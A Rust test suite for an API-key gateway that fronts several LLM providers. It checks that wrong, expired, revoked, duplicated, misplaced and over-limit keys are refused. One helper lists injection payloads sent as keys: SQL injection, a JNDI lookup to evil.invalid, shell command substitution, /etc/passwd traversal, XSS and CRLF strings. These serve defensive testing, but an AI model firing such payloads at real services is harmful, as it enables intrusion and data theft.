//! Keys as strangers send them: wrong, doubled, misplaced, hostile, used up. Cases KEY02 to KEY21.
#![cfg(test)]
#![expect(
    clippy::disallowed_methods,
    clippy::string_slice,
    clippy::too_many_lines,
    clippy::type_complexity,
    reason = "keys are ASCII and expire by the wall's time; tables have one entry a line"
)]

use std::time::{Duration, SystemTime};

use mirk_model::KeyKind;
use mirk_vault::{SystemEntropy, mint};

use crate::harness::{CREDENTIALS, Mirk};
use crate::wire::{Answer, Exchange, Shape, find};

const CHAT: &[u8] = br#"{"model":"gpt-x","messages":[{"role":"user","content":"hello"}]}"#;

/// A call of each dialect: where, what, and in which shape its refusals are.
const CALLS: [(&str, &[u8], Shape); 5] = [
    ("/v1/chat/completions", CHAT, Shape::OpenAi),
    (
        "/v1/responses",
        br#"{"model":"gpt-x","input":"hello"}"#,
        Shape::OpenAi,
    ),
    (
        "/v1/messages",
        br#"{"model":"claude-x","max_tokens":9,"messages":[{"role":"user","content":"hello"}]}"#,
        Shape::Anthropic,
    ),
    (
        "/v1beta/models/gemini-x:generateContent",
        br#"{"contents":[{"parts":[{"text":"hello"}]}]}"#,
        Shape::Gemini,
    ),
    (
        "/api/chat",
        br#"{"model":"llama-x","messages":[{"role":"user","content":"hello"}]}"#,
        Shape::Ollama,
    ),
];

/// Where a key may stand in a head.
const PLACES: [&str; 4] = ["Authorization", "x-api-key", "x-goog-api-key", "x-mirk-key"];

fn in_place(place: &str, key: &str) -> String {
    if place == "Authorization" {
        format!("Bearer {key}")
    } else {
        key.to_owned()
    }
}

fn json_headers<'a>(more: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    [&[("Content-Type", "application/json")], more].concat()
}

/// The same token with its last part made to fit.
fn with_crc(token: &str) -> String {
    const ALPHABET: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let checked = &token[..63];
    let mut crc = flate2::Crc::new();
    crc.update(checked.as_bytes());
    let mut rest = crc.sum() as usize;
    let mut digits = [b'0'; 6];
    for digit in digits.iter_mut().rev() {
        *digit = ALPHABET[rest % 62];
        rest /= 62;
    }
    format!("{checked}_{}", std::str::from_utf8(&digits).unwrap())
}

/// The token with its character at `at` made another.
fn changed(token: &str, at: usize) -> String {
    let mut bytes = token.as_bytes().to_vec();
    bytes[at] = if bytes[at] == b'7' { b'8' } else { b'7' };
    String::from_utf8(bytes).unwrap()
}

/// What of a refusal must be the same for every bad key: all but request id and time.
fn fixed_part(answer: &Answer) -> (u16, Vec<(String, String)>, String) {
    let mut headers: Vec<_> = answer
        .headers
        .iter()
        .map(|(name, value)| {
            let varies = name == "x-mirk-request-id" || name == "date";
            (
                name.clone(),
                if varies { String::new() } else { value.clone() },
            )
        })
        .collect();
    headers.sort();
    let id = answer.header("x-mirk-request-id").unwrap();
    let body = String::from_utf8(answer.body.clone()).unwrap();
    assert!(body.contains(id), "the body has the request's id");
    (answer.status, headers, body.replace(id, ""))
}

fn rfc3339(moment: SystemTime) -> String {
    let moment = time::OffsetDateTime::from(moment);
    moment
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap()
}

fn whole_second_in(seconds: u64) -> SystemTime {
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    SystemTime::UNIX_EPOCH + Duration::from_secs(now + seconds)
}

fn wait_until(moment: SystemTime) {
    if let Ok(wait) = moment.duration_since(SystemTime::now()) {
        std::thread::sleep(wait);
    }
}

/// Keys that must not work, each with what is wrong with it. The expired one expires within two seconds.
fn bad_keys(mirk: &Mirk) -> Vec<(&'static str, String)> {
    let (late, _) = mirk.new_key(&["--expires", &rfc3339(whole_second_in(2))]);
    let expires = whole_second_in(2);
    let (revoked, kid) = mirk.new_key(&[]);
    assert!(mirk.cli(&["key", "revoke", &kid]).status.success());
    let (future, _) = mirk.new_key(&["--not-before", &rfc3339(whole_second_in(3600))]);
    let unknown = mint(KeyKind::User, &SystemEntropy).0.expose().clone();
    let key = mirk.key();
    wait_until(expires);
    vec![
        ("empty", String::new()),
        ("prefix alone", "mrk_".to_owned()),
        ("too short", key[..69].to_owned()),
        ("too long", format!("{key}0")),
        (
            "other characters",
            key.replace('_', "-").replacen("mrk-", "mrk_", 1),
        ),
        (
            "another's key",
            "sk-ant-api03-something-of-somebody-else".to_owned(),
        ),
        ("wrong CRC", changed(key, 69)),
        ("a typing error in the secret", changed(key, 30)),
        ("unknown kid", unknown),
        ("changed kid", with_crc(&changed(key, 9))),
        ("wrong secret", with_crc(&changed(key, 25))),
        (
            "wrong last character of the secret",
            with_crc(&changed(key, 62)),
        ),
        ("revoked", revoked),
        ("expired", late),
        ("not yet valid", future),
    ]
}

#[test]
fn key_02_15_16_every_bad_key_gets_the_same_answer_in_every_dialect() {
    let mut mirk = Mirk::start();
    let bad = bad_keys(&mirk);
    for (path, body, shape) in CALLS {
        let first = format!("POST {path}");
        let missing = mirk.ask(&first, &json_headers(&[]), body);
        missing.is_refusal(shape, 401, &[]);
        for (what, key) in &bad {
            for place in PLACES {
                let value = in_place(place, key);
                let answer = mirk.ask(&first, &json_headers(&[(place, &value)]), body);
                assert_eq!(answer.status, 401, "{what} in {place} on {path}");
                answer.is_refusal(shape, 401, &[key]);
                assert_eq!(
                    fixed_part(&answer),
                    fixed_part(&missing),
                    "{what} in {place} on {path}"
                );
            }
        }
    }
    // The key that the bad ones were made from works all the while: no verdict was kept for its neighbours.
    assert_eq!(mirk.post("/v1/chat/completions", CHAT).status, 200);
    assert_eq!(
        mirk.seen().len(),
        1,
        "only the good key reached the provider"
    );
    mirk.is_well();
}

#[test]
fn key_15_a_token_with_other_letters_for_realm_or_kind_is_another_token() {
    let mut mirk = Mirk::start();
    for (from, to) in [
        ("mrk_l", "mrk_t"),
        ("mrk_lu", "mrk_lp"),
        ("mrk_lu", "mrk_lm"),
    ] {
        let key = with_crc(&mirk.key().replacen(from, to, 1));
        mirk.ask("GET /v1/models", &[("x-api-key", &key)], b"")
            .is_refusal(Shape::OpenAi, 401, &[&key]);
    }
    mirk.is_well();
}

#[test]
fn key_02_listings_refuse_bad_keys_too() {
    let mut mirk = Mirk::start();
    let wrong = with_crc(&changed(mirk.key(), 25));
    let lists = [
        ("/v1/models", Shape::OpenAi),
        ("/v1/models/gpt-x", Shape::OpenAi),
        ("/v1beta/models", Shape::Gemini),
        ("/api/tags", Shape::Ollama),
    ];
    for (path, shape) in lists {
        let bearer = in_place("Authorization", &wrong);
        let missing = mirk.ask(&format!("GET {path}"), &[], b"");
        let answer = mirk.ask(&format!("GET {path}"), &[("Authorization", &bearer)], b"");
        answer.is_refusal(shape, 401, &[&wrong]);
        assert_eq!(fixed_part(&answer), fixed_part(&missing), "{path}");
    }
    let version = [("anthropic-version", "2023-06-01")];
    mirk.ask("GET /v1/models", &version, b"")
        .is_refusal(Shape::Anthropic, 401, &[]);
    mirk.is_well();
}

#[test]
fn s86_ten_thousand_bad_keys_reach_no_provider() {
    const COUNT: usize = 10_000;
    const BATCH: usize = 100;
    let mut mirk = Mirk::start();
    let before = mirk.sim().connections();
    let request = |key: &str| {
        let bearer = in_place("Authorization", key);
        mirk.request(
            "POST /v1/chat/completions",
            &json_headers(&[("Authorization", &bearer)]),
            CHAT,
        )
    };
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                let mut exchange = Exchange::open(mirk.addr());
                for _ in 0..COUNT / 4 / BATCH {
                    let keys =
                        (0..BATCH).map(|_| mint(KeyKind::User, &SystemEntropy).0.expose().clone());
                    let requests: Vec<u8> = keys.flat_map(|key| request(&key)).collect();
                    exchange.write(&requests);
                    for _ in 0..BATCH {
                        assert_eq!(exchange.answer().status, 401);
                    }
                }
            });
        }
    });
    assert_eq!(mirk.seen().len(), 0);
    assert_eq!(mirk.sim().connections(), before);
    mirk.is_well();
}

/// Injections, traversals, format strings, escapes: printable ones, and the same percent-encoded.
fn hostile_values() -> Vec<String> {
    let seeds = [
        "' OR 1=1--",
        "a'/**/UNION/**/SELECT/**/1",
        "%27",
        "'; DROP TABLE keys;--",
        "\" OR \"\"=\"",
        "1) OR (1=1",
        "admin'--",
        "' UNION SELECT key_mac FROM api_key--",
        "${jndi:ldap://evil.invalid/a}",
        "{{7*7}}",
        "%s%s%s%n",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "$(id)",
        "`id`",
        "|id",
        "\\x00",
        "%00",
        "%0d%0aX: y",
        "null",
        "undefined",
        "true",
        "[]",
        "{}",
        "-1",
        "NaN",
        "mrk_' OR 1=1--",
        "mrk_lu_%27%27%27%27%27%27_",
        "*",
        "mrk_lu_************_*******************************************_******",
        "Bearer",
        "Basic YTpi",
        "0x31303235",
    ];
    let dressed = [
        "",
        "'",
        "\"",
        "')",
        "'))",
        "';",
        "';--",
        "'#",
        "'/*",
        " AND SLEEP(5)",
        "' AND SLEEP(5)--",
        "%2527",
        "\\",
        ",",
        "\t",
    ];
    seeds
        .iter()
        .flat_map(|seed| dressed.iter().map(move |dress| format!("{seed}{dress}")))
        .collect()
}

#[test]
fn key_03_injections_in_a_key_are_just_wrong_keys() {
    let mut mirk = Mirk::start();
    let rows = || mirk.json(&["key", "list"]);
    let before = rows();
    let mut exchange = Exchange::open(mirk.addr());
    let hostile = hostile_values();
    assert!(hostile.len() >= 490);
    let started = std::time::Instant::now();
    for value in &hostile {
        for place in ["Authorization", "x-api-key"] {
            let sent = in_place(place, value);
            exchange.write(&mirk.request(
                "POST /v1/chat/completions",
                &json_headers(&[(place, &sent)]),
                CHAT,
            ));
            let answer = exchange.answer();
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (401, "invalid_api_key"),
                "{value}"
            );
        }
    }
    // A debug build on a busy machine; far from the time of even one sleep.
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(rows(), before);
    for byte in 0x80..=0xFF_u8 {
        let mut bytes = mirk.request("GET /v1/models", &[("x-api-key", "mrk_lu_@")], b"");
        let at = find(&bytes, b"@").unwrap();
        bytes[at] = byte;
        assert_eq!(mirk.send(&bytes).answer().status, 400, "{byte:#x} in a key");
    }
    mirk.is_well();
}

#[test]
fn key_04_no_length_of_key_is_let_in_or_does_harm() {
    let mut mirk = Mirk::start();
    for length in [0, 1, 3, 4, 5, 69, 70, 71, 128, 1_000, 4_096, 8_000] {
        let key = format!("mrk_{}", "A".repeat(length));
        for place in PLACES {
            let value = in_place(place, &key);
            // A key where Google's clients have theirs says that one of them is asking.
            let shape = if place == "x-goog-api-key" {
                Shape::Gemini
            } else {
                Shape::OpenAi
            };
            mirk.ask("GET /v1/models", &[(place, &value)], b"")
                .is_refusal(shape, 401, &[&key]);
        }
    }
    for length in [8_193, 9 * 1_024, 64 * 1_024, 1024 * 1_024] {
        let key = "A".repeat(length);
        for place in PLACES {
            let value = in_place(place, &key);
            let mut exchange = mirk.send(&mirk.request("GET /v1/models", &[(place, &value)], b""));
            exchange.answer().is_refusal(Shape::OpenAi, 431, &[&key]);
            assert!(exchange.is_closed(), "{length} in {place}");
        }
    }
    mirk.is_well();
}

#[test]
fn key_04_only_a_bearer_token_counts_in_authorization() {
    let mut mirk = Mirk::start();
    let key = mirk.key().to_owned();
    let status = |value: &str| {
        let headers = json_headers(&[("Authorization", value)]);
        mirk.ask("POST /v1/chat/completions", &headers, CHAT).status
    };
    for form in ["Bearer @", "bearer @", "BEARER @", "Bearer  @", "Bearer @ "] {
        assert_eq!(status(&form.replace('@', &key)), 200, "{form}");
    }
    for form in [
        "@",
        "Basic @",
        "Token @",
        "Bearer@",
        "Bearer:@",
        "Bearer=@",
        "Bearer \"@\"",
        "Bearer @,@",
        "Bearer @ @",
        "Bearer @, Bearer @",
        "Bearer Bearer @",
        "Bearer x@",
        "Bearer @x",
        "Bearer @;q=1",
        "Digest key=@",
        "key=@",
    ] {
        assert_eq!(status(&form.replace('@', &key)), 401, "{form}");
    }
    mirk.is_well();
}

#[test]
fn key_04_two_credentials_are_never_first_wins() {
    let mut mirk = Mirk::start();
    let (second, _) = mirk.new_key(&[]);
    let (one, two) = (format!("Bearer {}", mirk.key()), format!("Bearer {second}"));
    let twice = [("Authorization", one.as_str()), ("Authorization", &two)];
    for headers in [
        twice,
        [twice[1], twice[0]],
        [twice[0], twice[0]],
        [twice[0], ("authorization", "Bearer sk-x")],
    ] {
        let answer = mirk.ask("POST /v1/chat/completions", &json_headers(&headers), CHAT);
        answer.is_refusal(Shape::OpenAi, 400, &[mirk.key(), &second]);
    }
    let key = mirk.key().to_owned();
    for (a, place_a) in PLACES.iter().enumerate() {
        for place_b in PLACES.iter().skip(a + 1) {
            let (value_a, value_b) = (in_place(place_a, &key), in_place(place_b, &second));
            let (wrong_a, wrong_b) = (
                in_place(place_a, &with_crc(&changed(&key, 25))),
                in_place(place_b, "mrk_x"),
            );
            for headers in [
                [(*place_a, value_a.as_str()), (*place_b, value_b.as_str())],
                [(*place_b, &value_b), (*place_a, &value_a)],
                [(*place_a, &wrong_a), (*place_b, &value_b)],
                [(*place_a, &value_a), (*place_b, &wrong_b)],
            ] {
                for (path, body, shape) in CALLS {
                    let answer = mirk.ask(&format!("POST {path}"), &json_headers(&headers), body);
                    answer.is_refusal(shape, 400, &[&key, &second]);
                    if shape != Shape::Anthropic {
                        assert_eq!(
                            answer.code(),
                            "ambiguous_credentials",
                            "{place_a} and {place_b} on {path}"
                        );
                    }
                }
            }
            // The same key twice is one key.
            let same = in_place(place_b, &key);
            let headers = json_headers(&[(*place_a, &value_a), (*place_b, &same)]);
            assert_eq!(
                mirk.ask("POST /v1/chat/completions", &headers, CHAT).status,
                200
            );
        }
    }
    assert_eq!(mirk.seen().len(), 6);
    mirk.is_well();
}

#[test]
fn key_04_a_stale_provider_key_beside_ours_is_neither_used_nor_forwarded() {
    const STALE: [&str; 4] = [
        "sk-ant-api03-stale",
        "sk-stale-000000000000",
        "sim-stale-000000",
        "AIzaStale00000",
    ];
    let mut mirk = Mirk::start();
    let key = mirk.key().to_owned();
    for place in PLACES {
        for other in PLACES
            .iter()
            .chain(&["api-key", "Cookie", "Proxy-Authorization"])
            .filter(|other| **other != place)
        {
            for stale in STALE {
                let (ours, theirs) = (in_place(place, &key), in_place(other, stale));
                for headers in [
                    [(place, ours.as_str()), (*other, theirs.as_str())],
                    [(*other, &theirs), (place, &ours)],
                ] {
                    let answer =
                        mirk.ask("POST /v1/chat/completions", &json_headers(&headers), CHAT);
                    assert_eq!(answer.status, 200, "{place} beside {other}");
                }
                for seen in mirk.seen() {
                    assert_eq!(seen.credential.as_deref(), Some(CREDENTIALS[0]));
                    let has = |part: &str| {
                        seen.headers
                            .iter()
                            .any(|(_, value)| find(value, part.as_bytes()).is_some())
                    };
                    assert!(
                        !has(stale) && !has("mrk_"),
                        "{place} beside {other}: a client's credential went on"
                    );
                }
            }
        }
    }
    mirk.is_well();
}

#[test]
fn key_12_a_key_does_what_its_scope_says_and_headers_change_nothing() {
    let mut mirk = Mirk::start();
    let (chat, _) = mirk.new_key(&["--scope", "chat", "--models", "gpt-x,claude-*"]);
    let (lists, _) = mirk.new_key(&["--scope", "models"]);
    let embed: &[u8] = br#"{"model":"gpt-x","input":"hello"}"#;
    let messages = CALLS[2].1;
    let other = br#"{"model":"gpt-y","messages":[]}"#;
    let spelled = br#"{"model":"o/gpt-y","messages":[]}"#;
    let cases: [(&str, &str, &str, &[u8], Option<Shape>); 8] = [
        (&chat, "POST", "/v1/chat/completions", CHAT, None),
        (
            &chat,
            "POST",
            "/v1/chat/completions",
            other,
            Some(Shape::OpenAi),
        ),
        (
            &chat,
            "POST",
            "/v1/chat/completions",
            spelled,
            Some(Shape::OpenAi),
        ),
        (&chat, "POST", "/v1/embeddings", embed, Some(Shape::OpenAi)),
        (&chat, "POST", CALLS[3].0, CALLS[3].1, Some(Shape::Gemini)),
        (&chat, "GET", "/v1/models", b"", Some(Shape::OpenAi)),
        (
            &lists,
            "POST",
            "/v1/messages",
            messages,
            Some(Shape::Anthropic),
        ),
        (&lists, "GET", "/v1/models", b"", None),
    ];
    let lies = [
        ("x-scopes", "admin"),
        ("x-mirk-scopes", "chat,embeddings,models"),
        ("x-role", "owner"),
        ("x-user-id", "1"),
    ];
    for (key, method, path, body, refused) in cases {
        mirk.seen();
        let bearer = in_place("Authorization", key);
        let headers =
            json_headers(&[&[("Authorization", bearer.as_str())], lies.as_slice()].concat());
        let answer = mirk.ask(&format!("{method} {path}"), &headers, body);
        match refused {
            None => assert_eq!(answer.status, 200, "{method} {path}"),
            Some(shape) => {
                answer.is_refusal(shape, 403, &[key]);
                if shape != Shape::Anthropic {
                    assert_eq!(answer.code(), "scope", "{method} {path}");
                }
                assert_eq!(mirk.seen().len(), 0);
            }
        }
    }
    mirk.is_well();
}

#[test]
fn key_14_a_key_in_the_wrong_place_is_refused_and_not_written_down() {
    let mut mirk = Mirk::setup().env("MIRK_LOG", "debug").start();
    let key = mirk.key().to_owned();
    for name in ["key", "api_key", "access_token", "token", "x", "KEY", "mrk"] {
        for (path, body, shape) in CALLS {
            if shape == Shape::Gemini && name == "key" {
                continue;
            }
            let answer = mirk.ask(
                &format!("POST {path}?{name}={key}"),
                &json_headers(&[]),
                body,
            );
            answer.is_refusal(shape, 400, &[&key]);
            if shape != Shape::Anthropic {
                assert_eq!(answer.code(), "credential_in_url", "{name} on {path}");
            }
        }
        let answer = mirk.ask(
            &format!("GET /v1/models?a=b&{name}={key}"),
            &[("anthropic-version", "1")],
            b"",
        );
        answer.is_refusal(Shape::Anthropic, 400, &[&key]);
    }
    let gemini = mirk.ask(
        &format!("POST {}?key={key}", CALLS[3].0),
        &json_headers(&[]),
        CALLS[3].1,
    );
    assert_eq!(gemini.status, 200, "Gemini's libraries send it so");
    let seen = mirk.seen();
    assert_eq!(seen.len(), 1);
    assert!(
        !seen[0].target.contains("mrk_"),
        "the key went on to the provider"
    );

    mirk.ask(&format!("GET /v1/models/{key}"), &[], b"")
        .is_refusal(Shape::OpenAi, 401, &[&key]);
    mirk.ask(&format!("GET /{key}"), &[], b"")
        .is_refusal(Shape::OpenAi, 404, &[&key]);
    mirk.ask(
        &format!("POST /v1/{key}/chat/completions"),
        &json_headers(&[]),
        CHAT,
    )
    .is_refusal(Shape::OpenAi, 404, &[&key]);
    let in_body = format!(r#"{{"model":"gpt-x","api_key":"{key}","key":"{key}","messages":[]}}"#);
    mirk.ask(
        "POST /v1/chat/completions",
        &json_headers(&[]),
        in_body.as_bytes(),
    )
    .is_refusal(Shape::OpenAi, 401, &[&key]);
    for cookie in ["key", "session", "Authorization"] {
        let cookie = format!("{cookie}={key}");
        let headers = json_headers(&[("Cookie", &cookie)]);
        mirk.ask("POST /v1/chat/completions", &headers, CHAT)
            .is_refusal(Shape::OpenAi, 401, &[&key]);
    }
    assert_eq!(mirk.seen().len(), 0);
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !mirk.stderr().contains(&key[20..60]),
        "a key stands in the log"
    );
    mirk.is_well();
}

#[test]
fn key_19_only_own_keys_that_exist_can_be_revoked() {
    let mut mirk = Mirk::start();
    let (kept, _) = mirk.new_key(&[]);
    let (gone, kid) = mirk.new_key(&[]);
    for unknown in [
        "AAAAAAAAAAAA",
        "",
        "x",
        "' OR 1=1--",
        "../../etc",
        "000000000000000000000000",
    ] {
        let output = mirk.cli(&["key", "revoke", unknown, "--json"]);
        assert_eq!(output.status.code(), Some(1), "{unknown}");
        let text = String::from_utf8(output.stderr).unwrap();
        assert!(text.contains("not_found"), "{text}");
    }
    let works = |key: &str| {
        mirk.ask("GET /v1/models", &[("x-api-key", key)], b"")
            .status
            == 200
    };
    assert!(works(&kept) && works(&gone));
    assert!(mirk.cli(&["key", "revoke", &kid]).status.success());
    assert!(works(&kept) && !works(&gone));
    // A second time changes nothing, and the key stays dead.
    mirk.cli(&["key", "revoke", &kid]);
    assert!(works(&kept) && !works(&gone));
    mirk.is_well();
}

#[test]
fn key_20_a_key_lives_from_its_first_moment_until_just_before_its_last() {
    let mut mirk = Mirk::start();
    let (starts, ends) = (whole_second_in(2), whole_second_in(3));
    let (key, _) = mirk.new_key(&[
        "--not-before",
        &rfc3339(starts),
        "--expires",
        &rfc3339(ends),
    ]);
    let status = || {
        mirk.ask("GET /v1/models", &[("x-api-key", &key)], b"")
            .status
    };
    assert_eq!(status(), 401, "before its first moment");
    wait_until(starts - Duration::from_millis(100));
    assert!(SystemTime::now() >= starts || status() == 401);
    wait_until(starts);
    let answer = status();
    assert!(
        answer == 200 || SystemTime::now() >= ends,
        "from its first moment on"
    );
    wait_until(ends);
    assert_eq!(status(), 401, "at its last moment");
    assert_eq!(status(), 401, "and after it");
    let past = mirk.cli(&[
        "key",
        "create",
        "--label",
        "late",
        "--expires",
        "2020-01-01T00:00:00Z",
    ]);
    assert_eq!(past.status.code(), Some(64));
    for odd in [
        "tomorrow",
        "2026-13-01T00:00:00Z",
        "2026-12-01",
        "1e99",
        "-1",
        "9999999999999",
    ] {
        let output = mirk.cli(&[
            "key",
            "create",
            "--label",
            "odd",
            &format!("--expires={odd}"),
        ]);
        assert_eq!(output.status.code(), Some(64), "{odd}");
    }
    mirk.is_well();
}

/// Sends `count` calls at once; gives how many were let in, and every refusal.
fn at_once(mirk: &Mirk, key: &str, count: usize, body: &[u8]) -> (usize, Vec<Answer>) {
    let bearer = in_place("Authorization", key);
    let request = mirk.request(
        "POST /v1/chat/completions",
        &json_headers(&[("Authorization", &bearer)]),
        body,
    );
    let answers: Vec<Answer> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..count)
            .map(|_| scope.spawn(|| mirk.send(&request).answer()))
            .collect();
        threads
            .into_iter()
            .map(|thread| thread.join().unwrap())
            .collect()
    });
    let (good, refused): (Vec<_>, Vec<_>) =
        answers.into_iter().partition(|answer| answer.status == 200);
    (good.len(), refused)
}

#[test]
fn key_21_of_fifty_at_once_exactly_five_are_let_in() {
    let mut mirk = Mirk::start();
    let slow = br#"{"model":"gpt-sim-slow","messages":[{"role":"user","content":"hello"}]}"#;
    // A call takes its answer's limit as well: five of these fit in the minute's tokens, six do not.
    let few =
        br#"{"model":"gpt-x","max_tokens":1000,"messages":[{"role":"user","content":"hello"}]}"#;
    let limits: [(&str, &str, &[u8], &str); 4] = [
        ("--rpm", "5", CHAT, "rate_limit_exceeded"),
        ("--concurrency", "5", slow, "rate_limit_exceeded"),
        ("--lifetime-calls", "5", CHAT, "insufficient_quota"),
        ("--daily-calls", "5", CHAT, "insufficient_quota"),
    ];
    for (flag, most, body, code) in limits {
        mirk.seen();
        let (key, _) = mirk.new_key(&[flag, most]);
        let (good, refused) = at_once(&mirk, &key, 50, body);
        assert_eq!(good, 5, "{flag}");
        assert_eq!(mirk.seen().len(), 5, "{flag}");
        for answer in refused {
            answer.is_refusal(Shape::OpenAi, 429, &[&key]);
            assert_eq!(answer.code(), code, "{flag}");
            let wait = answer
                .header("retry-after")
                .map(|wait| wait.parse::<u64>().unwrap());
            // What is used up for good does not come back.
            assert_eq!(
                wait.is_some_and(|wait| wait >= 1),
                flag != "--lifetime-calls",
                "{flag}"
            );
        }
    }
    let (key, _) = mirk.new_key(&["--tpm", "5200"]);
    let (good, refused) = at_once(&mirk, &key, 1, few);
    assert_eq!((good, refused.len()), (1, 0));
    let over = br#"{"model":"gpt-x","max_tokens":6000,"messages":[]}"#;
    assert_eq!(
        at_once(&mirk, &key, 1, over).1[0].status,
        429,
        "more than the minute has left"
    );
    mirk.is_well();
}
